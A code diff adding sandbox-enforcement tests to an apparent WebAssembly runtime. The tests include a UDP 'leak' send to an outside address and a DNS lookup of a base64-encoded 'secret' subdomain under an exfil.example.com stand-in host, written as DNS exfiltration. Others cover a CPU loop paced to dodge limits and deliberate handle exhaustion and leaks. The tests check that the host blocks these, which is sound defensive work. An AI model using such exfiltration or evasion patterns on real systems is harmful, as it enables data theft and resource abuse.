@@ -27,6 +27,15 @@ pub(crate) fn run(name: &str, t: &Transcript) -> Result<(), String> {
         "memory_hog" => memory_hog(t),
         "handle_hog" => handle_hog(t),
         "connect_non_loopback" => connect_non_loopback(t),
+        "udp_non_loopback" => udp_non_loopback(t),
+        "lookup_names" => lookup_names(t),
+        "paced_spin_3ms" => paced_spin(3),
+        "paced_spin_8ms" => paced_spin(8),
+        "leak_a_socket" => leak_a_socket(t),
+        #[cfg(feature = "p3")]
+        "p3_stream_hog" => p3_stream_hog(t),
+        #[cfg(feature = "p3")]
+        "p3_leak_a_stream" => p3_leak_a_stream(t),
         "fairness" => fairness(t),
         "div_no_threads" => div_no_threads(t),
         "div_executor_on_the_loop" => div_executor_on_the_loop(t),
@@ -107,10 +116,19 @@ fn connect_non_loopback(t: &Transcript) -> Result<(), String> {
                     "names access-denied={}",
                     e.to_string().contains("access-denied")
                 ));
+                t.push(format!(
+                    "names the policy and the option={}",
+                    e.to_string().contains("network policy")
+                        && e.to_string().contains("-S inherit-network")
+                ));
             }
             Ok(_) => t.push("connected"),
         }
-        t.expect(&["PermissionDenied", "names access-denied=true"])
+        t.expect(&[
+            "PermissionDenied",
+            "names access-denied=true",
+            "names the policy and the option=true",
+        ])
     })
 }
 
@@ -686,4 +704,116 @@ fn p3_future_dropped_outside_the_loop(t: &Transcript) -> Result<(), String> {
         "handles reused after a drop outside the loop: no trap",
         "then stalled=true",
     ])
+}
+
+/// UDP to an address outside loopback: `send_to` and `connect` are refused (`access-denied`).
+fn udp_non_loopback(t: &Transcript) -> Result<(), String> {
+    let t = t.clone();
+    crate::block(async move {
+        let outside = std::net::SocketAddr::from(([192, 0, 2, 1], 9));
+        let sock = wasio::net::UdpSocket::bind(lo4()).await.ctx("bind")?;
+        let sent = sock.send_to(b"leak", outside).await;
+        t.push(format!(
+            "send_to: {} names access-denied={}",
+            sent.as_ref().err().map(crate::kind).unwrap_or_default(),
+            sent.as_ref()
+                .err()
+                .is_some_and(|e| e.to_string().contains("access-denied"))
+        ));
+        let connected = sock.connect(outside).await;
+        t.push(format!(
+            "connect: {}",
+            connected
+                .as_ref()
+                .err()
+                .map(crate::kind)
+                .unwrap_or_default()
+        ));
+        t.expect(&[
+            "send_to: PermissionDenied names access-denied=true",
+            "connect: PermissionDenied",
+        ])
+    })
+}
+
+/// Name lookups under the loopback policy: a name that could leave the machine is
+/// unresolvable (and never reaches the resolver: the host test watches a DNS server), local
+/// names and literals resolve.
+fn lookup_names(t: &Transcript) -> Result<(), String> {
+    let t = t.clone();
+    crate::block(async move {
+        let outside = wasio::net::lookup_host("c2VjcmV0.exfil.example.com", 7000).await;
+        t.push(format!(
+            "outside name: {}",
+            outside
+                .as_ref()
+                .err()
+                .map(crate::kind)
+                .unwrap_or("resolved".into())
+        ));
+        let local = wasio::net::lookup_host("localhost", 80)
+            .await
+            .ctx("localhost")?;
+        t.push(format!(
+            "localhost: loopback={}",
+            !local.is_empty() && local.iter().all(|a| a.ip().is_loopback())
+        ));
+        let literal = wasio::net::lookup_host("127.0.0.1", 80)
+            .await
+            .ctx("literal")?;
+        t.push(format!("literal: {}", literal.len()));
+        t.expect(&[
+            "outside name: NotFound",
+            "localhost: loopback=true",
+            "literal: 1",
+        ])
+    })
+}
+
+/// Spins `burst_ms` of wasm, sleeps 35 ms, over and over: a guest pacing itself to slip
+/// under a CPU limit that only counted back-to-back ticks. Gives up after 30 s.
+fn paced_spin(burst_ms: u64) -> Result<(), String> {
+    let started = std::time::Instant::now();
+    let burst = Duration::from_millis(burst_ms);
+    let mut x = 0u64;
+    while started.elapsed() < Duration::from_secs(30) {
+        let t0 = std::time::Instant::now();
+        while t0.elapsed() < burst {
+            x = std::hint::black_box(x.wrapping_add(1));
+        }
+        std::thread::sleep(Duration::from_millis(35));
+    }
+    Err(format!(
+        "paced {burst_ms} ms bursts for 30 s without being stopped"
+    ))
+}
+
+/// Leaves a socket alive (forgotten) when it returns: the host's leak check must see it.
+fn leak_a_socket(_t: &Transcript) -> Result<(), String> {
+    crate::block(async move {
+        let s = wasio::net::UdpSocket::bind(lo4()).await.ctx("bind")?;
+        std::mem::forget(s);
+        Ok(())
+    })
+}
+
+/// WASI 0.3 stream pairs created without bound and kept: the handle limit (which also caps
+/// wasmtime's WASI 0.3 table) must stop it with a report that names it.
+#[cfg(feature = "p3")]
+fn p3_stream_hog(t: &Transcript) -> Result<(), String> {
+    let mut hoard = Vec::new();
+    for i in 0..2_000_000u64 {
+        hoard.push(wasio::os::wasi::wasip3::wit_stream::new::<u8>());
+        if i % 100_000 == 0 {
+            t.push(format!("{i} pairs"));
+        }
+    }
+    Err("2,000,000 stream pairs without hitting a limit".into())
+}
+
+/// Leaves a WASI 0.3 stream pair alive when it returns: the leak check must count it.
+#[cfg(feature = "p3")]
+fn p3_leak_a_stream(_t: &Transcript) -> Result<(), String> {
+    std::mem::forget(wasio::os::wasi::wasip3::wit_stream::new::<u8>());
+    Ok(())
 }
